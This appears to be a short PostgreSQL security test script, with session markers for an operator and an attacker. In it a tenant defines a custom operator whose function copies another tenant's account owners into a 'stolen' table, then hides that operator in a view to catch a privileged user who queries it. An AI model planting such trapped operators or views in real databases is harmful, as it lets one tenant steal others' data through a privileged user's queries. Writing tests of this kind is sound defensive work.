-- An operator of the attacker's in a view, and a cast, an aggregate.
CREATE TABLE stolen (what text);
CREATE FUNCTION spies(int, int) RETURNS bool LANGUAGE plpgsql AS $$ BEGIN INSERT INTO tenant_alpha.stolen SELECT owner FROM tenant_beta.accounts; RETURN true; END $$;
CREATE OPERATOR === (FUNCTION = spies, LEFTARG = int, RIGHTARG = int);
CREATE VIEW bait AS SELECT id FROM accounts WHERE id === 1;
-- @session operator
SELECT count(*) FROM tenant_alpha.bait;
-- @session attacker
TABLE stolen;
